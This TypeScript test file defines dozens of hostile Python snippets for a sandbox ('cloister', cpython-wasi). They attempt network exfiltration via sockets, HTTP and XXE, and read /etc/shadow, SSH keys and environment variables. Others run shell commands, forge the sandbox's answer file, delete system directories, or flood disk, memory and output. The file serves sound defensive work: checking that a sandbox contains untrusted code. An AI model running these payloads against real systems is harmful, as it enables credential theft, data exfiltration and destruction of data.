import type { Attack, AttackedEngine, Target } from './attack.ts';
import { runtimeAttacks } from './runtime-attacks.ts';

/** What generated Python may try. Each may print what it likes; it is judged by the sinks and the planted secrets. */
function pythonAttacks({ hosts, tcpPort, udpPort, secretPath }: Target): readonly Attack[] {
  const each = (template: (host: string) => string) => hosts.map(template).join('\n');
  const tried = (line: string) => `try:\n    ${line}\nexcept BaseException as error: print(type(error).__name__)`;
  const path = JSON.stringify(secretPath);
  return [
    {
      name: 'socket connect',
      source: `import socket\n${each((host) => tried(`socket.create_connection(("${host}", ${tcpPort}), 1).send(b"leak")`))}`,
    },
    {
      name: 'raw socket',
      source: `import socket\n${each((host) => tried(`socket.socket(socket.AF_INET, socket.SOCK_STREAM).connect(("${host}", ${tcpPort}))`))}`,
    },
    {
      name: 'UDP',
      source: `import socket\n${each((host) => tried(`socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"leak", ("${host}", ${udpPort}))`))}`,
    },
    {
      name: '_socket',
      source: `import _socket\nprint(dir(_socket))\n${each((host) => tried(`_socket.socket(2, 1).connect(("${host}", ${tcpPort}))`))}`,
    },
    {
      name: 'adopted descriptors',
      source: `import socket\nfor fd in range(64):\n    try: socket.socket(fileno=fd).send(b"leak")\n    except BaseException: pass`,
    },
    {
      name: 'urllib',
      source: `import urllib.request\n${each((host) => tried(`urllib.request.urlopen("http://${host}:${tcpPort}/leak", timeout=1)`))}`,
    },
    {
      name: 'http.client',
      source: `import http.client\n${each((host) => tried(`http.client.HTTPConnection("${host}", ${tcpPort}, timeout=1).request("GET", "/leak")`))}`,
    },
    {
      name: 'pandas over HTTP',
      source: `import pandas as pd\n${each((host) => tried(`pd.read_csv("http://${host}:${tcpPort}/leak.csv")`))}`,
    },
    {
      name: 'lxml external entity',
      source: `from lxml import etree\n${each((host) => tried(`print(etree.fromstring('<!DOCTYPE a [<!ENTITY x SYSTEM "http://${host}:${tcpPort}/leak">]><a>&x;</a>', etree.XMLParser(load_dtd=True, no_network=False, resolve_entities=True)).text)`))}\n${tried(`print(etree.fromstring('<!DOCTYPE a [<!ENTITY x SYSTEM "file://' + ${path} + '">]><a>&x;</a>', etree.XMLParser(load_dtd=True, resolve_entities=True)).text)`)}`,
    },
    {
      name: 'asyncio streams',
      source: `import asyncio\nasync def go(host):\n    await asyncio.open_connection(host, ${tcpPort})\n${each((host) => tried(`asyncio.run(go("${host}"))`))}`,
    },
    {
      name: 'smtplib, ftplib',
      source: `import smtplib, ftplib\n${each((host) => `${tried(`smtplib.SMTP("${host}", ${tcpPort}, timeout=1)`)}\n${tried(`ftplib.FTP().connect("${host}", ${tcpPort}, 1)`)}`)}`,
    },
    {
      name: 'name look-up',
      source: `import socket\n${tried('print(socket.getaddrinfo("leak.example.com", 80))')}\n${tried('print(socket.gethostbyname("leak.example.com"))')}`,
    },
    {
      name: 'subprocess',
      source: `import subprocess, os\n${tried(`print(subprocess.run(["cat", ${path}], capture_output=True).stdout)`)}\n${tried(`print(os.popen("cat " + ${path}).read())`)}\n${tried(`os.system("cat " + ${path})`)}\n${tried('os.fork()')}\n${tried(`os.execv("/bin/cat", ["cat", ${path}])`)}`,
    },
    {
      name: 'ctypes and dlopen',
      source: `${tried('import ctypes; print(ctypes.CDLL(None).system(b"id"))')}\n${tried('import ctypes; print(ctypes.string_at(0, 64))')}\n${tried('import _ctypes; print(_ctypes.dlopen("libc.so.6", 2))')}\n${tried('import sys; sys.setdlopenflags(2)')}`,
    },
    {
      name: 'host files by path',
      source: `for path in [${path}, "/etc/passwd", "/etc/shadow", "/proc/self/environ", "/proc/1/cmdline", "/sys/kernel", "/dev/kmem", "/root/.ssh/id_rsa", "C:\\\\Windows\\\\win.ini"]:\n    try: print(open(path).read())\n    except OSError as error: print(error.errno)`,
    },
    {
      name: 'host files by ..',
      source: `for depth in range(12):\n    for start in ("/data/", "/out/", "/usr/local/lib/", ""):\n        try: print(open(start + "../" * depth + ${path}.lstrip("/")).read())\n        except OSError: pass`,
    },
    {
      name: 'host files by links',
      source: `import os\nfor number, target in enumerate([${path}, "/", "..", "../../../../..", "/proc/self/root", "/proc/self/fd/3"]):\n    try:\n        os.symlink(target, f"/out/link{number}")\n        print(os.listdir(f"/out/link{number}") if os.path.isdir(f"/out/link{number}") else open(f"/out/link{number}").read())\n    except OSError as error: print(error.errno)`,
    },
    {
      name: 'everything below /',
      source: `import os\nfor root, folders, files in os.walk("/"):\n    for name in files:\n        try:\n            if os.path.getsize(f"{root}/{name}") < 100_000: print(open(f"{root}/{name}", errors="replace").read())\n        except OSError: pass`,
    },
    {
      name: 'descriptors nobody opened',
      source: `import os\nfor fd in range(300):\n    for act in (lambda: os.read(fd, 1000), lambda: os.listdir(fd), lambda: os.pread(fd, 100, 0)):\n        try: print(fd, act())\n        except OSError: pass`,
    },
    {
      name: 'environment and arguments',
      source: 'import os, sys\nprint(dict(os.environ), sys.argv, sys.orig_argv, sys.executable)',
    },
    {
      name: 'memory for other sessions',
      source: `import gc\nfor thing in gc.get_objects():\n    try:\n        if "secret-" in str(thing)[:5000]: print(str(thing)[:5000])\n    except BaseException: pass`,
    },
    {
      name: 'the wall clock of other sessions',
      source: 'import os\nprint(os.listdir("/tmp"), os.listdir("/out"), os.listdir("/run"), os.listdir("/data"))',
    },
    {
      name: 'forged answer',
      source: `import atexit, json, os\nopen("/run/cloister/response.json", "w").write(json.dumps({"kind": "cancelled", "result": "forged", "tables": [], "charts": [], "error": None}))\nos._exit(0)`,
    },
    {
      name: 'answer replaced by a folder',
      source: 'import os, sys\nos.makedirs("/run/cloister/response.json", exist_ok=True)',
    },
    {
      name: 'runtime replaced',
      source:
        'import cloister._turn as turn, json, os, sys\nturn.run = lambda: os._exit(0)\njson.loads = json.dumps = None\nsys.stdout = None',
    },
    {
      name: 'builtins replaced',
      source: 'import builtins\nbuiltins.open = builtins.print = builtins.len = builtins.__import__ = None',
    },
    {
      name: 'standard streams closed',
      source: 'import os\nfor fd in range(16):\n    try: os.close(fd)\n    except OSError: pass',
    },
    {
      name: 'standard library removed',
      source:
        'import os, shutil\nfor path in ("/usr/local/lib/python315.zip", "/usr/local/lib/cloister-guest", "/usr", "/run"):\n    try: os.remove(path)\n    except OSError: pass\n    shutil.rmtree(path, ignore_errors=True)\n    try: os.rename(path, "/tmp/x")\n    except OSError: pass',
    },
    {
      name: 'working folder removed',
      source:
        'import os, shutil\nshutil.rmtree("/out", ignore_errors=True)\nshutil.rmtree("/tmp", ignore_errors=True)\nos.chdir("/")',
    },
    {
      name: 'artifact names',
      source: `import os\nfor name in ["<img src=x onerror=alert(1)>.html", "..\\\\..\\\\evil.bat", "CON", "a\\u202egnp.exe", "-rf", "x" * 250, "\\n\\r.txt"]:\n    open("/out/" + name, "w").write("x")\nos.makedirs("/out/" + "d/" * 300, exist_ok=True)`,
    },
    {
      name: 'file flood',
      isSlow: true,
      source: 'for i in range(100_000):\n    try: open(f"/out/{i}", "w").write("x")\n    except OSError: break',
    },
    {
      name: 'disk flood',
      isSlow: true,
      source: 'with open("/out/flood", "wb") as file:\n    while True: file.write(bytes(1 << 20))',
    },
    {
      name: 'deep folders',
      isSlow: true,
      source: 'import os\nfor i in range(20_000):\n    os.mkdir("d")\n    os.chdir("d")',
    },
    {
      name: 'output flood',
      isSlow: true,
      source: 'import sys\nwhile True: sys.stdout.write("x" * 100_000); sys.stderr.write("y" * 100_000)',
    },
    { name: 'endless loop', isSlow: true, source: 'while True: pass' },
    {
      name: 'endless loop that catches all',
      isSlow: true,
      source: 'while True:\n    try:\n        while True: pass\n    except BaseException: pass',
    },
    {
      name: 'regular expression that explodes',
      isSlow: true,
      source: 'import re\nre.match(r"(a+)+$", "a" * 60 + "b")',
    },
    { name: 'native loop', isSlow: true, source: 'sum(range(10**12))' },
    { name: 'big power', isSlow: true, source: 'len(str(9 ** 9 ** 9))' },
    { name: 'allocation', source: 'held = []\nwhile True: held.append(bytearray(1 << 24))' },
    {
      name: 'allocation by numpy',
      isSlow: true,
      source: 'import numpy\nheld = [numpy.ones(1 << 26) for _ in range(64)]',
    },
    { name: 'recursion', source: 'import sys\nsys.setrecursionlimit(1 << 30)\ndef down(): down()\ndown()' },
    {
      name: 'deep pickle',
      isSlow: true,
      source: 'import pickle\ndeep = []\nfor _ in range(10**6): deep = [deep]\npickle.dumps(deep)',
    },
    {
      name: 'bytecode that is none',
      source:
        'import types\ncode = (lambda: 0).__code__.replace(co_code=bytes([255]) * 64)\ntypes.FunctionType(code, {})()',
    },
    { name: 'sleep for ever', isSlow: true, source: 'import time\nwhile True: time.sleep(10**6)' },
    { name: 'leaving', source: 'import os\nos._exit(0)' },
    { name: 'trap', source: 'import os\nos.abort()' },
    { name: 'huge result', isSlow: true, source: '"x" * 200_000_000' },
    {
      name: 'huge table',
      isSlow: true,
      source: 'import pandas as pd\npd.DataFrame({f"c{i}": range(5_000) for i in range(2_000)})',
    },
    { name: 'hostile repr', source: 'class Evil:\n    def __repr__(self): raise SystemExit(0)\nEvil()' },
    {
      name: 'hostile subclass of str',
      source: 'class Evil(str):\n    def __str__(self): return 3\n    __repr__ = __str__\nEvil("x")',
    },
  ];
}

export const cpython: AttackedEngine = {
  engine: 'cpython-wasi',
  language: 'python',
  attacks: (target) => [...pythonAttacks(target), ...runtimeAttacks],
  keep: 'kept = "kept"',
  probe: 'print("alive", globals().get("kept"))',
  hold: (secret) => `held = "${secret}"\nopen("/tmp/held", "w").write(held)\nopen("/out/held.csv", "w").write(held)`,
  sharesSession: false,
};
